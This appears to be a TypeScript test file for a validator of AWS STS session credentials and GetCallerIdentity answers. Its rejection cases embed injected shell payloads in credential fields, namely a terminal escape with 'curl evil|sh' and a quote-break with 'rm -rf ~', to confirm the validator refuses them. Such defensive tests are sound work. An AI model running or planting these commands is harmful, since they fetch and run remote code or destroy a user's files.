import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { checkIdentity, checkSession, clockSkewMs } from './sts-answer';

const now = Date.parse('2026-11-30T10:00:00Z');
const hour = 3600;
const good = {
	AccessKeyId: 'ASIAQWERTYUIOPASDFGH',
	SecretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY',
	SessionToken: 'IQoJb3JpZ2luX2VjE+/abcdefghijklmnop==',
	Expiration: new Date(now + hour * 1000),
};
const fromAws = { fromAws: true, durationSeconds: hour, now };

describe('STS session answers', () => {
	it('accepts what AWS issues, with the expiry as an ISO time', () => {
		expect(checkSession(good, fromAws)).toEqual({
			ok: true,
			value: {
				accessKeyId: good.AccessKeyId,
				secretAccessKey: good.SecretAccessKey,
				sessionToken: good.SessionToken,
				expiration: '2026-11-30T11:00:00.000Z',
			},
		});
	});

	it('wants ASIA keys from AWS, and accepts an emulator’s fixed AKIA key elsewhere', () => {
		const akia = { ...good, AccessKeyId: 'AKIAIOSFODNN7EXAMPLE' };
		expect(checkSession(akia, fromAws)).toEqual({ ok: false, error: 'AccessKeyId' });
		expect(checkSession(akia, { ...fromAws, fromAws: false }).ok).toBe(true);
	});

	it.each([
		['AccessKeyId', { AccessKeyId: 'ASIA\u0015QWERTYUIOPASDF' }],
		['AccessKeyId', { AccessKeyId: 'asiaqwertyuiopasdfgh' }],
		['AccessKeyId', { AccessKeyId: 'ASIA123' }],
		['AccessKeyId', { AccessKeyId: undefined }],
		['SecretAccessKey', { SecretAccessKey: 'wJalrXUtnFEMI/K7MDENG\u001b[2Kcurl evil|sh' }],
		['SecretAccessKey', { SecretAccessKey: 'short' }],
		['SessionToken', { SessionToken: "IQoJb3JpZ2luX2VjE'\u0015; rm -rf ~ #" }],
		['SessionToken', { SessionToken: 42 }],
		['SessionToken', { SessionToken: 'A'.repeat(16_385) }],
		['Expiration', { Expiration: new Date(Number.NaN) }],
		['Expiration', { Expiration: '2026-11-30T11:00:00Z' }],
		['Expiration', { Expiration: new Date(now - 1000) }],
		['Expiration', { Expiration: new Date(now + hour * 1000 + clockSkewMs + 1000) }],
	])('refuses a bad %s', (field, change) => {
		expect(checkSession({ ...good, ...change }, fromAws)).toEqual({ ok: false, error: field });
	});

	it('accepts an expiry within the clock skew past the duration asked for', () => {
		expect(checkSession({ ...good, Expiration: new Date(now + hour * 1000 + clockSkewMs) }, fromAws).ok).toBe(true);
	});

	it('never accepts a character outside the key alphabets', () => {
		fc.assert(
			fc.property(fc.string({ minLength: 1, maxLength: 5 }), fc.nat(30), (odd, at) => {
				fc.pre(/[^A-Za-z0-9+/=]/.test(odd));
				const token = good.SessionToken.slice(0, at) + odd + good.SessionToken.slice(at);
				expect(checkSession({ ...good, SessionToken: token }, fromAws).ok).toBe(false);
			}),
			{ seed: 12, numRuns: 300 },
		);
	});

	it('accepts any realistic base64 session', () => {
		const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
		fc.assert(
			fc.property(fc.string({ unit: fc.constantFrom(...alphabet), minLength: 100, maxLength: 2000 }), (token) => {
				expect(checkSession({ ...good, SessionToken: `${token}==` }, fromAws).ok).toBe(true);
			}),
			{ seed: 13, numRuns: 200 },
		);
	});
});

describe('GetCallerIdentity answers', () => {
	it('accepts an account and an ARN of that account', () => {
		expect(checkIdentity({ Account: '123456789012', Arn: 'arn:aws:iam::123456789012:user/alice' })).toEqual({
			account: '123456789012',
			arn: 'arn:aws:iam::123456789012:user/alice',
		});
		expect(checkIdentity({ Account: '123456789012', Arn: 'arn:aws-us-gov:iam::123456789012:root' })?.arn).toMatch(/:root$/);
		expect(checkIdentity({ Account: '123456789012', Arn: 'arn:aws:sts::123456789012:assumed-role/Admin/alice' })).toBeDefined();
	});

	it.each([
		[{ Account: '12345678901', Arn: 'arn:aws:iam::12345678901:user/alice' }],
		[{ Account: '123456789012', Arn: 'arn:aws:iam::210987654321:root' }],
		[{ Account: '123456789012', Arn: 'arn:aws:iam::123456789012:user/alice\u001b[31m' }],
		[{ Account: '123456789012', Arn: 'arn:evil:iam::123456789012:root' }],
		[{ Account: '123456789012', Arn: 'arn:aws:iam::123456789012:user/a b' }],
		[{ Account: 123456789012, Arn: 'arn:aws:iam::123456789012:root' }],
		[{}],
	])('refuses %j', (answer) => {
		expect(checkIdentity(answer)).toBeUndefined();
	});
});
